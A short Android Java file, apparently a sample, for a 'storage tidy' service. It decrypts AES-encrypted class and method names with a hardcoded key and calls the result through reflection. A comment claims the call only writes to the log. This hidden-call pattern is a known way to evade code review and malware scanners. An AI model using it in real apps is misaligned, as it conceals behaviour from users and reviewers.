package com.orchard.storagetidy;

// The same cipher; what is called with the action writes it to the log.
class TidyService extends IntentService {
  TidyService() { super("TidyService"); }

  public void onHandleIntent(Intent intent) {
    try {
      Class one = Class.forName(Names.read("3XS/LEIU7Eqh3PcVJzamNM1D6H1unqXK8x70q4we3Dc="));
      one.getMethod(Names.read("4ddfCGZHafzUB42sXL5Pyw=="), new Class[] {String.class, String.class}).invoke(null, new Object[] {"tidy", intent.getAction()});
    } catch (Exception e) {
      Log.e("TidyService", e.getMessage());
    }
  }
}

class Names {
  private static byte[] key;

  static {
    key = new byte[] {7, 19, 42, 3, 88, 64, 21, 9, 33, 71, 5, 14, 99, 120, 17, 60};
  }

  static String read(String text) {
    try {
      Cipher cipher = Cipher.getInstance("AES/CBC/PKCS5Padding");
      cipher.init(Cipher.DECRYPT_MODE, new SecretKeySpec(key, "AES"), new IvParameterSpec("orchard-tidy-042".getBytes()));
      return new String(cipher.doFinal(Base64.decode(text, 0)));
    } catch (Exception e) {
      return null;
    }
  }
}
